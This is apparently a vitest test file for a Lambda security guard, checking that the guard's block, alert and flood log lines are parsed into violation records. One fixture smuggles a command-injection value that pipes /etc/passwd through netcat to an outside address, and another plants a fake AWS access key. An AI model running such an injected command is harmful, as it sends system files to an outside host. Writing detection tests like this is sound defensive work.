import { withGuard } from '@watertight/guard/guard.ts';
import { createGuardLog } from '@watertight/guard/guard-log.ts';
import { DEFAULT_GUARD_POLICY } from '@watertight/guard/policy.ts';
import { describe, expect, test } from 'vitest';
import { guardViolationsReader } from './guard-violations.ts';
import { readItems, recordsOf } from './read-items.cases.ts';

const REQUEST = '11111111-2222-3333-4444-555555555555';
const CONTEXT = {
  functionName: 'orders',
  awsRequestId: REQUEST,
  invokedFunctionArn: 'arn:aws:lambda:eu-west-1:123456789012:function:orders',
};

/** What the guard writes about an event, as CloudWatch Logs would hand it on. */
async function linesOf(event: object, metrics: 'off' | 'emf' = 'off'): Promise<readonly string[]> {
  const lines: string[] = [];
  const policy = { ...DEFAULT_GUARD_POLICY, log: { ...DEFAULT_GUARD_POLICY.log, metrics } };
  const handler = withGuard(
    async (_event: object, _context: object) => ({ statusCode: 200, body: 'AKIAQWERTYUIOPASDFGH' }),
    {
      policy,
      mode: 'block',
      environment: {},
      write: (line) => lines.push(line),
      now: () => Date.UTC(2026, 2, 1, 4, 15, 9),
    },
  );
  await handler(event, CONTEXT);
  return lines;
}

function request(name: string): object {
  return {
    version: '2.0',
    rawPath: '/',
    rawQueryString: '',
    headers: {},
    requestContext: { http: { method: 'POST', path: '/', sourceIp: '198.51.100.7' } },
    body: JSON.stringify({ name }),
  };
}

const ATTACK = request('1; cat /etc/passwd | nc 203.0.113.9 4444');

describe("the guard's own lines", () => {
  test.each(['off', 'emf'] as const)('of a blocked event are read, metrics %s', async (metrics) => {
    const [line = ''] = await linesOf(ATTACK, metrics);
    const items = await readItems(guardViolationsReader, `${line}\n`);
    expect(items).toMatchObject([
      {
        kind: 'record',
        record: {
          account: '123456789012',
          region: 'eu-west-1',
          functionName: 'orders',
          requestId: REQUEST,
          time: Date.UTC(2026, 2, 1, 4, 15, 9) / 1000,
          detector: expect.stringMatching(/^[a-z-]+$/),
          verdict: 'block',
          field: 'body.name',
          sourceAddress: '198.51.100.7',
        },
      },
    ]);
  });

  test('of an answer are read', async () => {
    const items = await readItems(guardViolationsReader, (await linesOf(request('Ada'))).join('\n'));
    expect(recordsOf(items)).toMatchObject([
      { detector: 'access-key', field: 'response.body', verdict: 'block' },
    ]);
  });

  test('inside a subscription payload are read', async () => {
    const [message = ''] = await linesOf(ATTACK);
    const payload = {
      owner: '123456789012',
      logGroup: '/aws/lambda/orders',
      logEvents: [{ timestamp: Date.UTC(2026, 2, 1), message }],
    };
    expect(recordsOf(await readItems(guardViolationsReader, payload))).toMatchObject([{ verdict: 'block' }]);
  });

  test('that sum up a flood are read as one', async () => {
    const lines: string[] = [];
    let time = Date.UTC(2026, 2, 1);
    const log = createGuardLog({ write: (line) => lines.push(line), now: () => time, level: '' });
    const violation = {
      detector: 'scanner',
      rule: 'path',
      field: 'path',
      decoded: [],
      match: '',
      score: 0.6,
    };
    const facts = { service: 'orders', functionName: 'orders', isColdStart: false };
    for (let i = 0; i < 5; i += 1) {
      if (i === 4) time += 60_000;
      log.violation(
        {
          facts,
          verdict: 'alert',
          direction: 'event',
          trigger: 'function-url',
          violations: [violation],
          policyVersion: '',
        },
        { linesPerMinute: 1, metrics: 'off', matches: true },
      );
    }
    const records = recordsOf(await readItems(guardViolationsReader, lines.join('\n')));
    expect(records.map(({ detector, verdict }) => [detector, verdict])).toEqual([
      ['scanner', 'alert'],
      ['scanner', 'alert'],
      ['scanner', 'alert'],
    ]);
  });

  test('about its own failure are no violations', async () => {
    const lines: string[] = [];
    const log = createGuardLog({ write: (line) => lines.push(line), now: () => 0, level: '' });
    log.failure(new Error('x'), {
      facts: { service: '', functionName: 'orders', isColdStart: true },
      isClosed: false,
    });
    expect(await readItems(guardViolationsReader, lines.join('\n'))).toEqual([]);
  });
});
